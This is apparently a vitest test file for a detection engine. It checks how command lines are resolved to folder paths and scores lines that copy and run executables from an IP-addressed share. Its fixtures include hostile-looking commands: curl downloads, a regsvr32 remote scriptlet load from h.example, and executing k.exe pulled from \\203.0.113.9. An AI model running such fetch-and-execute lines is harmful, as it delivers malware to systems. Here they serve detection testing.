import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../../catalog/load.ts";
import type { Platform } from "../../model/event.ts";
import { resolvedOf } from "../../model/payload.ts";
import { judge } from "../../score/judge.ts";
import { resolve } from "../resolve.ts";

const resolved = (commandLine: string, platform: Platform) => resolve({ commandLine, platform }, builtinCatalog());

const running = (commandLine: string, platform: Platform) =>
  resolved(commandLine, platform).invocations.flatMap(({ behaviours }) =>
    behaviours.flatMap(({ runs, writes }) => [...runs, ...writes].map(resolvedOf)),
  );

describe("what is named from the folder that the line goes to", () => {
  it.each([
    ['cmd /c "cd /d C:\\d & rundll32 k.dll,x"', "c:\\d\\k.dll"],
    ['cmd /c "pushd \\\\192.0.2.7\\s & k.exe"', "\\\\192.0.2.7\\s\\k.exe"],
    ['cmd /c "cd C:\\d & cd e & .\\k.exe"', "c:\\d\\e\\k.exe"],
    ['cmd /c "cd C:\\d & mshta k.hta"', "c:\\d\\k.hta"],
    ["cmd /c start /min /d C:\\d k.exe", "c:\\d\\k.exe"],
    ['cmd /c start "" /d "C:\\d" regsvr32 /s k.dll', "c:\\d\\k.dll"],
    ['cmd /c "cd C:\\d & curl -o k.bin http://h.example/k"', "c:\\d\\k.bin"],
    ['powershell -c "cd C:\\d; .\\k.exe"', "c:\\d\\k.exe"],
    ['powershell -c "Set-Location C:\\d; sl e; rundll32 k.dll,x"', "c:\\d\\e\\k.dll"],
    ['powershell -c "Start-Process k.exe -WorkingDirectory C:\\d"', "c:\\d\\k.exe"],
  ])("is a file of that folder: %s", (line, file) => {
    expect(running(line, "windows")).toContain(file);
  });

  it.each([
    ["sh -c 'cd /tmp && ./k'", "/tmp/k"],
    ["sh -c 'cd /tmp; python3 k.py'", "/tmp/k.py"],
    ["sh -c 'cd /tmp/a; cd b; nohup ./k &'", "/tmp/a/b/k"],
  ])("is a file of that folder on Linux: %s", (line, file) => {
    expect(running(line, "linux")).toContain(file);
  });

  it.each([
    ['cmd /c "cd C:\\d & git.exe pull"', "git.exe"],
    ['cmd /c "cd C:\\d & make"', "make"],
    ['cmd /c "cd C:\\d & rundll32 shell32.dll,Control_RunDLL k.cpl"', "shell32.dll"],
    ['cmd /c "cd C:\\d & regsvr32 /s /i:http://h.example/k scrobj.dll"', "scrobj.dll"],
    ['powershell -c "pushd C:\\d; popd; .\\k.exe"', ".\\k.exe"],
    ['cmd /c "cd ..\\d & .\\k.exe"', ".\\k.exe"],
  ])("is none where it may be found elsewhere: %s", (line, name) => {
    expect(running(line, "windows").filter((file) => file.startsWith("c:\\d\\") && file.endsWith(name))).toEqual([]);
  });

  it("leaves a value as it is written", () => {
    const [payload] = resolved('cmd /c "cd C:\\d & k.exe"', "windows").invocations[0]!.behaviours[0]!.runs;
    expect(payload).toMatchObject({ value: "k.exe", resolved: "c:\\d\\k.exe" });
  });
});

describe("what is copied from a share of a machine without a name, and run", () => {
  it.each([
    "cmd /c copy \\\\203.0.113.9\\s\\k.exe %tmp%\\l.exe && %tmp%\\l.exe",
    "cmd /c xcopy /y \\\\203.0.113.9\\s\\k.exe %tmp%\\ & %tmp%\\k.exe",
    "cmd /c type \\\\203.0.113.9\\s\\k.exe > %tmp%\\l.exe && %tmp%\\l.exe",
    "cmd /c \\\\203.0.113.9\\s\\k.exe",
  ])("is grave: %s", (line) => {
    const level = judge(resolved(line, "windows"))?.scored.level;
    expect(["high", "critical"]).toContain(level);
  });
});
